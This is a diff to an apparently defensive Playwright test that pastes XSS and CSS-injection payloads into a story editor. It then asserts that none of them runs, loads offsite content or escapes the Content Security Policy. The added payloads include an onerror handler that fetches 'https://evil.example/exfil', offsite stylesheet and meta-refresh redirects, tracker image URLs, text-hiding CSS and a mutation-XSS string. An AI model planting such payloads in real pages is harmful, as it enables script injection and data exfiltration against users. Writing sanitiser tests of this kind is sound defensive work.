@@ -16,6 +16,15 @@ const PAYLOADS = [
   '<div style="display:none">teks tersembunyi</div>',
   '<img src="https://tracker.example/pixel.gif">',
   '<object data="https://evil.example/x.swf"></object>',
+  // Script that would only call out (no flag): a CSP-blocked fetch shows no request, only a violation.
+  '<img src=y onerror="fetch(\'https://evil.example/exfil\')">',
+  // CSS that hides text or loads from elsewhere.
+  '<p style="color:transparent;font-size:0">teks siluman</p>',
+  '<style>.story-editor p { display: none }</style>',
+  '<div style="background:url(https://tracker.example/bg.png)">latar pelacak</div>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  // Last: its unclosed <style> swallows whatever follows it in the HTML flavour.
   '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
 ];
 
@@ -29,8 +38,19 @@ async function pwned(page: Page): Promise<unknown> {
 test('XSS payloads pasted as HTML, as text and into the editor never execute or load', async () => {
   const h = await startHarness();
   const dialogs: string[] = [];
+  const violations: string[] = [];
+  const contextRequests: string[] = [];
   try {
     h.page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
+    // Attempts the CSP blocked before any request (fetch, XHR, a style's url()) show up only as
+    // violations: record them from the first script on, and every request of the whole context.
+    await h.page.exposeFunction('__cspViolation', (v: string) => { violations.push(v); });
+    await h.page.addInitScript(() => {
+      document.addEventListener('securitypolicyviolation', (e) => {
+        void (window as unknown as { __cspViolation(v: string): void }).__cspViolation(JSON.stringify({ directive: e.violatedDirective, blocked: e.blockedURI, source: e.sourceFile }));
+      });
+    });
+    h.context.on('request', (r) => contextRequests.push(r.url()));
     await h.open();
     const { page } = h;
 
@@ -82,6 +102,29 @@ test('XSS payloads pasted as HTML, as text and into the editor never execute or 
     }));
     assert.deepEqual(foreign, { iframes: 0, imgs: [], scripts: 0, jsLinks: 0 });
     assert.deepEqual(offsiteRequests(h), [], 'no request leaves 127.0.0.1');
+    assert.deepEqual(contextRequests.filter((u) => !u.startsWith(h.baseUrl) && !u.startsWith('data:')), [], 'no request from any page or worker');
+    // No attempt to reach anything, even one the CSP stopped before it became a request.
+    const seen = violations.map((v) => JSON.parse(v) as { directive: string; blocked: string; source: string });
+    assert.deepEqual(seen.filter((v) => /^(https?|wss?|ftp):/i.test(v.blocked)), [], 'a blocked attempt to load or call out');
+    // What the CSP did block is the app's own code at work, never the copy's: zod probing for eval
+    // (it then runs without), and DOMPurify's inert parse meeting the payload's style before it
+    // strips it. An inline script or handler from the copy would show here as script-src-*.
+    for (const v of seen) {
+      assert.ok(['script-src eval', 'style-src-attr inline', 'style-src-elem inline'].includes(`${v.directive} ${v.blocked}`) && v.source.startsWith(`${h.baseUrl}assets/`), `unexpected CSP violation ${JSON.stringify(v)}`);
+    }
+    // The recorder itself works: a fetch the test makes is seen as a blocked attempt.
+    await page.evaluate(() => fetch('https://evil.example/probe').catch(() => undefined));
+    await page.waitForTimeout(200);
+    assert.ok(violations.some((v) => v.includes('https://evil.example/probe')), 'the violation recorder sees a CSP-blocked fetch');
+    // Hiding CSS is gone: no inline style or <style> from the copy, and the "hidden" words are visible.
+    const styled = await page.evaluate(() => ({
+      // Inside the text and the inbox rows (the list's own rows are positioned by the app, through CSSOM).
+      inline: Array.from(document.querySelectorAll('.story-editor [style], .story-row [style]')).map((e) => `${e.tagName} ${e.getAttribute('style')}`).join(' | ') || 0,
+      sheets: Array.from(document.querySelectorAll('style')).filter((st) => /display:\s*none|transparent/.test(st.textContent ?? '')).length,
+      links: document.querySelectorAll('link[rel="stylesheet"]:not([href^="./"]):not([href^="/"])').length,
+    }));
+    assert.deepEqual(styled, { inline: 0, sheets: 0, links: 0 });
+    assert.match(await page.locator('.story-editor').innerText(), /teks siluman/);
 
     assert.deepEqual(h.pageErrors, []);
   } finally {
